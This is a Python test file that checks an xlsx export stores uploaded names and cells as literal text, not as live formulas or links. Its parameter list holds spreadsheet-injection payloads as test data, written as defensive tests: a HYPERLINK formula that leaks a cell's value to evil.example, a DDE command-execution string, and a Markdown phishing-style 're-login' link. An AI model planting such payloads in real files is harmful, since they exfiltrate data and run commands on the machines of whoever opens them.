"""Uploaded names and cells reach Excel as text and the page as plain text, never as formulas, Markdown or links
(issue 12 item 7)."""

import io

import openpyxl
import pandas as pd
import pytest

from unionbench.export import xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "=1/0",
    "![t](http://127.0.0.1:9/x.png)[重新登录](http://evil.example)www.evil.example.csv",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_xlsx_download_writes_every_user_string_as_a_text_cell_with_its_text_unchanged(text):
    frame = pd.DataFrame({"file_name": [text], "user_name": [text], "value": [1.5]})
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"data": frame})))
    sheet = book["data"]
    for cell in (sheet["A2"], sheet["B2"]):
        assert (cell.data_type, cell.value) == ("s", text)
    assert (sheet["C2"].data_type, sheet["C2"].value) == ("n", 1.5)  # numbers stay numbers
